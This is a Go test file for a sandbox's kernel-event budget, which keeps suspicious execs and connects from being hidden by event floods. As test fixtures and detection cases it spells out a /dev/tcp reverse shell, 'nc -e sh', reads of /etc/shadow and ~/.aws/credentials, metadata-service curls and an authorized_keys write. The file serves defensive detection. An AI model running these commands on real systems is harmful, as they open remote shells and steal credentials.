package kbudget

import (
	"fmt"
	"strings"
	"testing"

	"github.com/moat-sandbox/moat"
)

func failedExec(p string) moat.Event {
	return moat.Event{Source: moat.SourceKernel, Kind: moat.KindExecFailed, Path: p, Detail: "fc-list :style=" + p}
}

// TestKernelBudgetFlood: failing execs of 3,000 different files fill
// their own reserve, are counted as a flood ("kernel"), and the exec and
// connect that follow are kept.
func TestKernelBudgetFlood(t *testing.T) {
	var b Budget
	for i := range 3000 {
		b.Keep(failedExec(fmt.Sprintf("/nonexistent/x%d", i)))
	}
	if !b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh -c cat /etc/shadow"}) ||
		!b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindConnect, Addr: "203.0.113.7:443"}) {
		t.Fatal("the payload after the flood was dropped")
	}
	ev, n, ok := b.Event("kernel events")
	if !ok || ev.Name != string(moat.SourceKernel) || n != 3000-Reserve(moat.KindExecFailed) {
		t.Errorf("drop event %+v, %d dropped: want a kernel flood of %d", ev, n, 3000-Reserve(moat.KindExecFailed))
	}
}

// TestKernelBudgetPathSearch: a test suite that looks for a tool the
// machine lacks along PATH in every test (pygments' fc-list, whatever its
// arguments) fails on the same few files: each is kept MaxFailedRepeats
// times, the rest counted as repeats, which are no flood.
func TestKernelBudgetPathSearch(t *testing.T) {
	var b Budget
	kept := 0
	dirs := []string{"/work/.venv/bin", "/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin", "/bin"}
	for i := range 100 {
		for _, d := range dirs {
			ev := failedExec(d + "/fc-list")
			ev.Detail += fmt.Sprint(i) // arguments differ from test to test
			if b.Keep(ev) {
				kept++
			}
		}
	}
	if kept != len(dirs)*MaxFailedRepeats {
		t.Errorf("kept %d failed execs, want %d", kept, len(dirs)*MaxFailedRepeats)
	}
	ev, n, ok := b.Event("kernel events")
	if !ok || ev.Name != "kernel-repeats" || n != 100*len(dirs)-kept || !strings.Contains(ev.Detail, "exec-failed (repeated)") {
		t.Errorf("drop event %+v, %d dropped: want only repeats", ev, n)
	}
	// A loop of one command that runs is kept MaxRepeats times.
	var c Budget
	kept = 0
	for range 50 {
		if c.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/bin/true", Detail: "true"}) {
			kept++
		}
	}
	if kept != MaxRepeats {
		t.Errorf("kept %d runs of true, want %d", kept, MaxRepeats)
	}
}

// TestConnectRepeats: the connects to one host other than loopback are
// kept 64 times, in order, so that a secret a byte a port
// (40 bytes) is read whole; loopback's MaxRepeats times (connect_flood.py).
func TestConnectRepeats(t *testing.T) {
	for host, want := range map[string]int{"203.0.113.51": MaxHostConnects, "127.0.0.1": MaxRepeats} {
		var b Budget
		var ports []string
		for i := range 100 {
			addr := fmt.Sprintf("%s:%d", host, 1000+i)
			if b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindConnect, Addr: addr}) {
				ports = append(ports, addr)
			}
		}
		if len(ports) != want || ports[len(ports)-1] != fmt.Sprintf("%s:%d", host, 1000+want-1) {
			t.Errorf("%s: kept %d connects (%v), want the first %d", host, len(ports), ports, want)
		}
	}
}

func TestConnectHost(t *testing.T) {
	for addr, want := range map[string]string{
		"203.0.113.7:443": "203.0.113.7", "127.0.0.1:8080": "loopback", "127.9.9.9:1": "loopback",
		"[::1]:80": "loopback", "[::ffff:127.0.0.1]:80": "loopback", "[2001:db8::1]:53": "2001:db8::1",
		"2001:db8::1": "2001:db8::1", "[::ffff:203.0.113.7]:80": "203.0.113.7",
	} {
		if got := connectHost(addr); got != want {
			t.Errorf("connectHost(%q) = %q, want %q", addr, got, want)
		}
	}
}

// TestKernelBudgetJudgedFirst: 500 distinct commands and connects to 500
// distinct hosts fill their kinds' reserves; the payload that follows
// (the metadata service, a credential read through a shell, /dev/tcp, a
// connect out from another process, a shell on a socket) is kept all the
// same, and the flood is counted as one.
func TestKernelBudgetJudgedFirst(t *testing.T) {
	var b Budget
	for i := range 500 {
		b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/bin/echo", Detail: fmt.Sprintf("echo %d", i)})
		b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindConnect, Addr: fmt.Sprintf("10.%d.%d.1:80", i/250, i%250), PID: 7})
	}
	for _, ev := range []moat.Event{
		{Kind: moat.KindExec, Path: "/usr/bin/curl", Detail: "curl -s http://169.254.169.254/latest/meta-data/iam/"},
		{Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh -c cat ~/.aws/credentials"},
		{Kind: moat.KindExec, Path: "/bin/bash", Detail: "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
		{Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh", Stdio: "0,1,2"},
		{Kind: moat.KindExec, Path: "/tmp/.cache-update", Detail: ".cache-update"},
		{Kind: moat.KindConnect, Addr: "203.0.113.7:443", PID: 9},
	} {
		ev.Source = moat.SourceKernel
		if !b.Keep(ev) {
			t.Errorf("the payload's %s %s%s after the flood was dropped", ev.Kind, ev.Detail, ev.Addr)
		}
	}
	ev, n, ok := b.Event("kernel events")
	if !ok || ev.Name != string(moat.SourceKernel) || n < 500-400 || !strings.Contains(ev.Detail, "exec 100") {
		t.Errorf("drop event %+v, %d dropped: want a kernel flood of the 100 plain execs and some connects", ev, n)
	}
}

// TestKernelBudgetInterestFlood: a flood of events of interest (10,000
// distinct metadata URLs) is kept in a bounded sample that reaches its
// end, and cannot hide an event of another reason; what is not kept is
// counted as such.
func TestKernelBudgetInterestFlood(t *testing.T) {
	var b Budget
	const n = 10000
	kept, last := 0, 0
	for i := range n {
		if b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/usr/bin/curl",
			Detail: fmt.Sprintf("curl http://169.254.169.254/latest/meta-data/%d", i)}) {
			kept++
			last = i
		}
	}
	// the reserve, the reason's first, the process's, and interestPerLevel in each of
	// the 9 doublings from InterestFirst past the reserve to n
	want := Reserve(moat.KindExec) + InterestFirst + InterestPerProcess + 9*interestPerLevel
	if kept > want || kept < want-interestPerLevel {
		t.Errorf("kept %d of %d, want about %d", kept, n, want)
	}
	if last < n-n/8 {
		t.Errorf("the last kept is the %dth of %d: the sample does not reach the run's end", last, n)
	}
	if !b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh -c cat /etc/shadow"}) {
		t.Error("a credential read after a flood of metadata URLs was dropped")
	}
	ev, dropped, ok := b.Event("kernel events")
	if !ok || ev.Name != string(moat.SourceKernel) || dropped != n-kept || !strings.Contains(ev.Detail, "exec (of interest) ") {
		t.Errorf("drop event %+v, %d dropped: want %d of interest", ev, dropped, n-kept)
	}
}

// TestKernelBudgetSampleBound: floods of every reason at once keep at
// most MaxEvents.
func TestKernelBudgetSampleBound(t *testing.T) {
	var b Budget
	kept := 0
	lines := []string{"curl 169.254.169.254/%d", "cat /etc/shadow%d", "echo >/dev/tcp/h/%d", "nc -e sh h %d", "wget x%d",
		"base64 -d %d", "crontab x%d", "sh -i %d"}
	for i := range 20000 {
		ev := moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/bin/sh", Detail: fmt.Sprintf(lines[i%len(lines)], i)}
		if i%3 == 0 {
			ev = moat.Event{Source: moat.SourceKernel, Kind: moat.KindConnect, Addr: fmt.Sprintf("10.%d.%d.%d:1", i>>16, (i>>8)&255, i&255)}
		}
		if b.Keep(ev) {
			kept++
		}
	}
	if kept > MaxEvents {
		t.Errorf("kept %d, more than MaxEvents %d", kept, MaxEvents)
	}
}

func TestInterest(t *testing.T) {
	for _, c := range []struct {
		ev   moat.Event
		want bool
	}{
		{moat.Event{Kind: moat.KindExec, Path: "/bin/echo", Detail: "echo hello"}, false},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/git", Detail: "git status --porcelain"}, false},
		{moat.Event{Kind: moat.KindExecFailed, Path: "/work/.venv/bin/fc-list", Detail: "fc-list :style=bold"}, false},
		{moat.Event{Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh -c uname -p"}, false},
		{moat.Event{Kind: moat.KindConnect, Addr: "127.0.0.1:8080"}, false},
		{moat.Event{Kind: moat.KindConnect, Addr: "[::1]:80"}, false},
		{moat.Event{Kind: moat.KindConnect, Addr: "10.0.0.2:53"}, false},
		{moat.Event{Kind: moat.KindConnect, Path: "/run/x.sock"}, false},
		{moat.Event{Kind: moat.KindDenied, Name: "ptrace"}, false},
		{moat.Event{Kind: moat.KindConnect, Addr: "203.0.113.7:443", PID: 9}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/curl", Detail: "curl http://169.254.169.254/latest"}, true},
		{moat.Event{Kind: moat.KindExecFailed, Path: "/bin/sh", Detail: "sh -c cat ~/.AWS/credentials"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/bin/bash", Detail: "bash -c bash -i >& /dev/tcp/h/1 0>&1"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/bin/bash", Detail: "bash -i"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh", Stdio: "0,1"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/nc", Detail: "nc h 1"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/tmp/x", Detail: "x"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/proc/self/fd/3", Detail: "x"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh -c echo k >> ~/.ssh/authorized_keys"}, true},
		// Interpreters reading their code from stdin (a reverse shell's
		// shape once a connection precedes them), not those with a script.
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/python3.11", Detail: "python3 -i"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/python3.11", Detail: "python3 -u -i"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/python3.11", Detail: "python3 -"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/perl", Detail: "perl"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/python3", Detail: "python3 -c import code; code.interact()"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/python3.11", Detail: "python3 -I -c print(1)"}, false},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/python3.11", Detail: "python3 -m pytest -q"}, false},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/python3.11", Detail: "python3 setup.py build"}, false},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/perl", Detail: "perl -e print 1"}, false},
		// a package installed at run time
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/python3.11", Detail: "python3 -m pip install evil"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/pip3", Detail: "pip3 install --user evil"}, true},
		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/pip3", Detail: "pip3 list"}, false},
	} {
		if got := Interest(c.ev); (got != "") != c.want {
			t.Errorf("Interest(%+v) = %q, want of interest %v", c.ev, got, c.want)
		}
	}
}

func TestKernelReserves(t *testing.T) {
	sum := 0
	for _, k := range []string{"exec", "connect", "exec-failed", "denied"} {
		sum += Reserve(moat.Kind(k))
	}
	if sum != reserves {
		t.Fatalf("reserves sum to %d, want reserves %d", sum, reserves)
	}
}

// TestListenerBudget: a suite's loopback servers, one after another, are
// kept ten times and then counted as repeats; a port opened on every
// address after them, and after a flood of ports on distinct loopback
// addresses past the kind's reserve, is of interest and kept.
func TestListenerBudget(t *testing.T) {
	var b Budget
	kept := 0
	for range 100 {
		if b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindListener, Name: "listen", Addr: "127.0.0.1:0"}) {
			kept++
		}
	}
	if kept != MaxRepeats {
		t.Errorf("kept %d loopback listens of one address, want %d", kept, MaxRepeats)
	}
	for i := range 500 {
		b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindListener, Name: "listen", Addr: fmt.Sprintf("127.0.%d.%d:80", i/200, i%200)})
	}
	for _, addr := range []string{"0.0.0.0:4444", "", "[::]:22"} {
		ev := moat.Event{Source: moat.SourceKernel, Kind: moat.KindListener, Name: "listen", Addr: addr}
		if Interest(ev) != "listener" || !b.Keep(ev) {
			t.Errorf("a listen on %q past the reserve: interest %q, not kept", addr, Interest(ev))
		}
	}
	if Interest(moat.Event{Kind: moat.KindListener, Addr: "127.0.0.1:8080"}) != "" {
		t.Error("a loopback listen is of interest")
	}
	if !LostKind(moat.KindListener) || !LostKind(moat.KindListener+repeatedSuffix) {
		t.Error("the listener kind's counts are not taken from an init")
	}
}
